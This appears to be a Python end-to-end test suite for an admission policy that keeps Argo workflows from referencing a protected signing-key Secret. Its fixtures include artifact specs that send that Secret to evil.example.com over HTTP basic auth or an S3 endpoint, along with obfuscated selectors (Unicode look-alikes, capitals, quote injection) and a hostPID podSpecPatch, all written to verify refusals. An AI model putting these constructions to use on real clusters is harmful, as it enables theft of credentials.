"""Secrets that a workflow names, for argo-server to fetch an artifact with by its own account:
the key's is refused wherever Argo's types have room for one. The places are walked, not listed,
so that one of tomorrow is tried as well.
"""

import concurrent.futures
import glob
import json
import os
import time

from harness.argo_types import OTHERS, SELECTORS, Types, merged
from harness.place import KEY_SECRET
from harness.pods import step_pod
from harness.scenario import Skip, scenario

from .protection import API, AUTHOR, protected, refusal, tried
from .values import KINDS, Judge, spec_of

POLICY = "argo-attest-protect-workflows"
KEPT = "kept from workflows"
PLACEHOLDER = "{{inputs.parameters.secret}}"
RBAC = "/apis/rbac.authorization.k8s.io/v1"
THEFT = {"http": {"url": "http://evil.example.com", "auth": {"basicAuth": {"passwordSecret": {"name": KEY_SECRET, "key": "attest.key"}}}}}
HONEST = {"s3": {"key": "x", "accessKeySecret": {"name": "mine", "key": "k"}, "secretKeySecret": {"name": "mine", "key": "k", "optional": True}}}


def everywhere(case):
    """The author may write ClusterWorkflowTemplates, too."""
    name = f"{case.kube.namespace}-author"
    rules = [{"apiGroups": ["argoproj.io"], "resources": ["clusterworkflowtemplates"], "verbs": ["*"]}]
    case.kube.create(f"{RBAC}/clusterroles", {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": name}, "rules": rules})
    case.kube.create(f"{RBAC}/clusterrolebindings", {
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": name},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": name}, "subjects": [{"kind": "User", "name": AUTHOR}]})
    case.later(lambda: case.kube.ask("delete", "clusterrole,clusterrolebinding", name))


class Author:
    """What admission says to each document, asked some at a time."""

    def __init__(self, case):
        self.case, self.wrong, self.asked = case, [], 0

    def ask(self, documents):
        """Of `(what, document, reason)`: a reason of no words is any of the policy's, None none."""
        with concurrent.futures.ThreadPoolExecutor(4) as pool:
            for what, reason, said in pool.map(self._one, documents):
                self.asked += 1
                if not (said if reason is None else reason not in said or POLICY not in said):
                    continue
                self.wrong.append(f"{what}: {said[-420:] or 'admitted'}")

    def _one(self, asked):
        what, document, reason = asked
        kind = document["kind"].lower() + "s"
        within = "" if kind.startswith("cluster") else f"/namespaces/{self.case.kube.namespace}"
        return what, reason, tried(self.case, f"/apis/{API}{within}/{kind}?dryRun=All", document)

    def end(self):
        assert not self.wrong, f"{len(self.wrong)} of {self.asked}:\n" + "\n".join(self.wrong[:30])
        self.case.note(f"{self.asked} documents judged")


def written(kind, spec):
    spec = {"schedules": ["0 0 1 1 *"], "workflowSpec": spec} if kind == "CronWorkflow" else spec
    return {"apiVersion": API, "kind": kind, "metadata": {"name": "named"}, "spec": spec}


def dotted(path):
    return ".".join(field for field, _ in path)


def in_capitals(spec, begun=False):
    """Members in capitals as Argo still reads them: below those of a step."""
    if isinstance(spec, dict):
        return {(k.upper() if begun else k): in_capitals(v, begun or k in ("inline", "arguments")) for k, v in spec.items()}
    if isinstance(spec, list):
        return [in_capitals(v, begun) for v in spec]
    return spec


@scenario("admission/protect/secrets/fields")
def fields(case):
    """Each place that selects a Secret: the key's, one that a placeholder may make it, and another's."""
    case = protected(case)
    everywhere(case)
    types, author = Types(), Author(case)
    selectors = [path for path, _ in types.paths(SELECTORS)]
    others = [(path, OTHERS[kind]) for path, kind in types.paths(OTHERS)]
    assert len(selectors) > 1000 and len(others) > 100, (len(selectors), len(others))

    def of(kind, path, name):
        return written(kind, types.document(path, {"name": name, "key": "attest.key"}))

    def documents():
        for kind in (*KINDS, "ClusterWorkflowTemplate"):
            for path in selectors:
                inline = any(field == "inline" for field, _ in path)
                if inline and kind != "Workflow":
                    continue
                where = f"{kind}.{dotted(path)}"
                yield where, of(kind, path, KEY_SECRET), KEPT
                # The pod that a variable ends up in is judged itself, and Argo's agent reads a
                # header's Secret with the workflow's account.
                if path[-1][0] != "secretKeyRef":
                    yield f"{where}, a placeholder", of(kind, path, PLACEHOLDER), ""
                if inline and ("steps", "[[WorkflowStep]]") in path:
                    spec = in_capitals(types.document(path, {"name": KEY_SECRET, "key": "attest.key"}))
                    yield f"{where}, in capitals", written(kind, spec), KEPT
                    spec = in_capitals(types.document(path, {"name": PLACEHOLDER, "key": "attest.key"}))
                    if path[-1][0] != "secretKeyRef":
                        yield f"{where}, a placeholder in capitals", written(kind, spec), ""
            if kind != "ClusterWorkflowTemplate":
                for path, member in others:
                    yield f"{kind}.{dotted(path)}", written(kind, types.document(path, {member: KEY_SECRET})), KEPT
            # All of them at once, of another name.
            whole = {}
            for path in selectors:
                whole = merged(whole, types.document(path, {"name": "mine", "key": "attest.key", "optional": True}))
            for path, member in others:
                whole = merged(whole, types.document(path, {member: "mine"}))
            yield f"{kind}, honest", written(kind, whole), None

    author.ask(documents())
    author.end()


@scenario("admission/protect/secrets/disguised")
def disguised(case):
    """Selectors that pose as something else; and text that only looks like one."""
    case = protected(case)
    everywhere(case)
    author = Author(case)
    artifact = {"name": "app", "path": "/data/app"}

    def spec(selector, place="passwordSecret", **more):
        http = {"url": "http://x", "auth": {"basicAuth": {place: selector}}}
        return spec_of(case, templates=[{"name": "make", "container": {"image": "x"}, "inputs": {"artifacts": [{**artifact, "http": http}]}, **more}])

    named = {"name": KEY_SECRET, "key": "attest.key"}
    refused = {
        "a placeholder in part": spec({"name": "argo-{{inputs.parameters.x}}-key", "key": "attest.key"}),
        "an expression": spec({"name": "{{='argo-attest'+'-key'}}", "key": "attest.key"}),
        "behind a brace": spec({"key": "}", "name": PLACEHOLDER}),
        "behind another member": spec({"a": "}", "key": "attest.key", "name": PLACEHOLDER}),
        "behind another object": spec({"a": {"b": {}}, "key": "attest.key", "name": PLACEHOLDER}),
        "behind a quote": spec({"key": '", "name": "mine"}', "name": PLACEHOLDER}),
        "behind a volume's Secret": spec({"SECRET": {}, "key": "attest.key", "name": PLACEHOLDER}),
        "a number": spec({"key": "attest.key", "name": 1}),
        "in capitals": spec({"KEY": "attest.key", "NAME": PLACEHOLDER}, "PASSWORDSECRET"),
        "a long s": spec({"key": "attest.key", "name": PLACEHOLDER}, "password\u017fecret"),
        "a default of a parameter": {**spec({"name": "mine", "key": "k"}), "arguments": {"parameters": [{"name": "x", "value": KEY_SECRET}]}},
    }
    accepted = {
        "a script that speaks of it": spec({"name": "mine", "key": "k"}, container={"image": "x", "args": [
            f'echo "{KEY_SECRET}" \'"{KEY_SECRET}"\' passwordSecret": {{"name": "{KEY_SECRET}"}} ; ']}),
        "a longer name": spec({"name": KEY_SECRET + "-of-another", "key": "k"}),
        "empty": spec({}),
        "a key alone": spec({"key": "k"}),
        "of values of all kinds": spec({"name": "mine", "key": "k"}, retryStrategy=None, priority=1, container={"image": "x", "x": [1.5, -1, True, None, 2**60, "\u00fc\n\t\x7f\U0001f511"]}),
        "a secret volume": spec({"name": "mine", "key": "k"}, volumes=[{"name": "s", "secret": {"secretName": "mine", "items": [{"key": "a", "path": "b"}]}}]),
    }
    author.ask([(name, written("Workflow", s), KEPT) for name, s in refused.items()])
    author.ask([(name, written("ClusterWorkflowTemplate", s), KEPT) for name, s in refused.items() if "default" not in name])
    author.ask([(f"{kind}, {name}", written(kind, s), None) for kind in ("Workflow", "ClusterWorkflowTemplate") for name, s in accepted.items()])
    # Where ClusterWorkflowTemplates bring their own containers: other namespaces may not be protected.
    volume = {"name": KEY_SECRET, "secret": {"secretName": KEY_SECRET}}
    author.ask([("a volume", written("ClusterWorkflowTemplate", {**spec({"name": "mine", "key": "k"}), "volumes": [volume]}), None),
                ("a volume", written("Workflow", {**spec({"name": "mine", "key": "k"}), "volumes": [volume]}), KEPT)])
    # What Argo reads within a step in whatever case.
    call = {"name": "make", "inline": {"container": {"image": "x"}, "PodSpecPatch": '{"hostPID": true}'}}
    author.ask([("a patch in capitals", written("Workflow", spec_of(case, templates=[{"name": "make", "steps": [[call]]}])), "inline template")])
    author.end()


@scenario("admission/protect/secrets/elsewhere")
def elsewhere(case):
    """Where an artifact lies by what a step reported, a Workflow's status or a cache says."""
    case = protected(case)
    judge = Judge(case)
    theft, honest = ({"artifacts": [{"name": "app", "path": "/data/app", **place}]} for place in (THEFT, HONEST))
    results = "argo-attest-protect-results"
    judge.document("a result", {"apiVersion": API, "kind": "WorkflowTaskResult", "metadata": {"name": "r"}, "outputs": theft}, results)
    judge.document("an honest result", {"apiVersion": API, "kind": "WorkflowTaskResult", "metadata": {"name": "r"}, "outputs": honest}, None)
    header = {"name": "a", "valueFrom": {"secretKeyRef": {"name": KEY_SECRET, "key": "attest.key"}}}
    for what, headers, policy in (("a task", [header], results), ("an honest task", [], None)):
        task = {"name": "h", "http": {"url": "http://x", "headers": headers}}
        judge.document(what, {"apiVersion": API, "kind": "WorkflowTaskSet", "metadata": {"name": "r"}, "spec": {"tasks": {"n": task}}}, policy)
    workflows = f"/apis/{API}/namespaces/{case.kube.namespace}/workflows"
    case.kube.call("POST", workflows, {"apiVersion": API, "kind": "Workflow", "metadata": {"name": "kept"}, "spec": spec_of(case, suspend=True)})

    def change(what, status, policy, user=AUTHOR):
        judge.said(what, tried(case, f"{workflows}/kept?dryRun=All", {"status": status}, "PATCH", "application/merge-patch+json", user=user), policy)

    message = f'MountVolume.SetUp failed for volume "{KEY_SECRET}": secret "{KEY_SECRET}" not found'
    for side in ("inputs", "outputs"):
        node = {"id": "n", "name": "n", "type": "Pod", "message": message}
        change(f"a node's {side}", {"nodes": {"n": {**node, side: theft}}}, POLICY)
        change(f"a node's honest {side}", {"nodes": {"n": {**node, side: honest}}}, None)
    change("the workflow's outputs", {"outputs": theft}, POLICY)
    # A ConfigMap with a repository is of whoever may write ConfigMaps; the controller copies it.
    stolen = {"s3": {"bucket": "b", "endpoint": "evil.example.com", "accessKeySecret": {"name": KEY_SECRET, "key": "attest.key"}}}
    change("a repository", {"artifactRepositoryRef": {"artifactRepository": stolen}}, "repository that was chosen", user=None)
    change("an honest repository", {"artifactRepositoryRef": {"artifactRepository": HONEST}}, None, user=None)
    # And so it goes, with Argo's own controller: no pod, and nothing for argo-server to go by.
    case.kube.create_config_map("repository", {"default": json.dumps(stolen)})
    flow = {**spec_of(case), "artifactRepositoryRef": {"configMap": "repository", "key": "default"}, "volumes": [{"name": "data", "emptyDir": {}}]}
    running = case.run({"apiVersion": API, "kind": "Workflow", "metadata": {"generateName": "e2e-repository-"}, "spec": flow}, AUTHOR)
    time.sleep(8)
    status = running.workflow().get("status", {})
    assert not running.pods() and KEY_SECRET not in json.dumps(status.get("artifactRepositoryRef", {})), status
    case.note(f"with a repository that names the key: {status.get('phase', 'no phase')}, {status.get('message', 'no message')}")
    configmaps = case.kube.core("configmaps", dryRun="All")
    for what, text, policy in (
        ("a cache", json.dumps({"outputs": theft}), "argo-attest-protect-parameters"),
        ("an escaped cache", json.dumps({"outputs": theft}).replace(KEY_SECRET, "argo\\u002Dattest-key"), "argo-attest-protect-parameters"),
        ("another escaped cache", json.dumps({"outputs": theft}).replace(KEY_SECRET, "\\u0061rgo-attest-key"), "argo-attest-protect-parameters"),
        ("an honest cache", json.dumps({"outputs": honest, "x": "\u003c"}).replace("<", "\\u003c"), None),
    ):
        document = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "cache", "labels": {"workflows.argoproj.io/configmap-type": "Cache"}}, "data": {"k": text}}
        judge.said(what, tried(case, configmaps, document), policy)
    judge.end()


@scenario("admission/protect/secrets/examples")
def examples(case):
    """All of Argo's own examples: none is refused but for a podSpecPatch."""
    pattern = os.environ.get("E2E_ARGO_EXAMPLES") or os.path.expanduser("~/go/pkg/mod/github.com/argoproj/argo-workflows/v*@*/examples")
    folders = sorted(glob.glob(pattern))
    if not folders:
        raise Skip(f"no examples of Argo's at {pattern} (E2E_ARGO_EXAMPLES)")
    case = protected(case)
    everywhere(case)
    wrong, judged, patched = [], 0, 0
    for folder in folders:
        _, said = case.kube.ask("create", "--dry-run=client", "--validate=false", "-o", "json", "-R", "-f", folder, seconds=120)
        for document in documents_in(said):
            kind = document.get("kind", "").lower() + "s"
            if kind not in ("workflows", "workflowtemplates", "clusterworkflowtemplates", "cronworkflows"):
                continue
            # Two of them have no name that an API server takes.
            document["metadata"] = {"name": "example", "annotations": document["metadata"].get("annotations", {})}
            within = "" if kind.startswith("cluster") else f"/namespaces/{case.kube.namespace}"
            said = tried(case, f"/apis/{API}{within}/{kind}?dryRun=All", document)
            judged += 1
            patched += "podSpecPatch" in said
            if said and "podSpecPatch" not in said:
                wrong.append(f"{folder}: {document['metadata']}: {said[:300]}")
    assert judged > 150 * len(folders) and not wrong, f"{judged} judged:\n" + "\n".join(wrong)
    case.note(f"{judged} examples of {len(folders)} versions judged, {patched} refused for their podSpecPatch")


def documents_in(said):
    """The objects that kubectl printed one after the other, with what it complained of between them."""
    decoder, at = json.JSONDecoder(), said.find("{\n")
    while at >= 0:
        try:
            document, end = decoder.raw_decode(said, at)
        except ValueError:
            at = said.find("{\n", at + 1)
            continue
        yield from document["items"] if document.get("kind") == "List" else [document]
        at = said.find("{\n", end)


@scenario("admission/protect/secrets/large")
def large(case):
    """What an API server takes, it also judges in time: within what it lets an expression cost."""
    case = protected(case)
    for templates, artifacts in ((300, 10), (1000, 4), (1, 4000)):
        whole = [{"name": f"t{i}", "container": {"image": "x", "args": ["{{inputs.parameters.x}}"]}, "inputs": {"artifacts": [
            {"name": f"a{j}", "path": f"/data/{j}", "s3": {"key": "{{workflow.name}}/x", "accessKeySecret": {"name": "mine", "key": "k"},
                                                          "secretKeySecret": {"name": "mine", "key": "k"}}} for j in range(artifacts)]}}
            for i in range(templates)]
        document = written("Workflow", {"entrypoint": "t0", "templates": whole})
        size, began = len(json.dumps(document)), time.monotonic()
        said = tried(case, f"/apis/{API}/namespaces/{case.kube.namespace}/workflows?dryRun=All", document)
        assert not said, f"{templates} templates of {artifacts}, {size} bytes: {said[:500]}"
        seconds = time.monotonic() - began
        whole[-1]["inputs"]["artifacts"][-1].update(THEFT)
        said = tried(case, f"/apis/{API}/namespaces/{case.kube.namespace}/workflows?dryRun=All", document)
        assert KEPT in said, said[:500]
        case.note(f"{templates} templates with {artifacts} artifacts, {size} bytes: judged in {seconds:.1f} s")


@scenario("admission/protect/settings")
def settings(case):
    """The gates' policy, the API server's authority and the key: the platform's, not an author's."""
    case = protected(case)
    wrong = []

    def ask(what, said, refused):
        if ("argo-attest-protect-settings" in said) != refused or (said and not refused):
            wrong.append(f"{what}: {said or 'admitted'}")

    kube = case.kube
    for kind, name in (("configmaps", "argo-attest-policy"), ("configmaps", "kube-root-ca.crt"), ("secrets", KEY_SECRET), ("configmaps", "mine"), ("secrets", "mine")):
        field = "data" if kind == "configmaps" else "stringData"
        document = {"apiVersion": "v1", "kind": "ConfigMap" if kind == "configmaps" else "Secret", "metadata": {"name": name}, field: {"x": "x"}}
        if name == "mine":
            kube.call("POST", kube.core(kind), document)
        path = kube.core(kind, name, dryRun="All")
        kept = name != "mine"
        merge = "application/merge-patch+json"
        for who, refused in ((AUTHOR, kept), (None, False)):
            ask(f"{who} changes {name}", tried(case, path, {field: {"y": "y"}}, "PATCH", merge, user=who), refused)
            ask(f"{who} deletes {name}", tried(case, path, None, "DELETE", user=who), refused)
        if kept:
            ask(f"{AUTHOR} deletes all {kind}", tried(case, kube.core(kind, dryRun="All"), None, "DELETE", user=AUTHOR), True)
        # One that is not there yet, too.
        if kept and kind == "secrets":
            kube.delete_secret(name)
            ask(f"{AUTHOR} makes {name}", tried(case, kube.core(kind, dryRun="All"), document, user=AUTHOR), True)
            ask(f"the platform makes {name}", tried(case, kube.core(kind, dryRun="All"), document, user=None), False)
    # A namespace that is deleted must come to an end.
    emptying = "system:serviceaccount:kube-system:namespace-controller"
    ask("emptying", tried(case, kube.core("configmaps", "argo-attest-policy", dryRun="All"), None, "DELETE", user=emptying), False)
    assert not wrong, "\n".join(wrong)


@scenario("admission/inject/capitals")
def capitals(case):
    """The API server takes an annotation's prefix in capitals: whoever wrote it wanted something."""
    case = protected(case)
    for name in ("Argo-Attest.io/attest", "ARGO-ATTEST.IO/VERIFY-INPUTS", "argo-attest.IO/verify-inputs"):
        pod = step_pod(case, annotations={name: "true"})
        said = refusal(case, pod) or "admitted"
        assert "argo-attest-protect-pods" in said and "annotation" in said, f"{name}: {said}"
    assert refusal(case, step_pod(case, annotations={"argo-attest.iox/attest": "true"})) is None
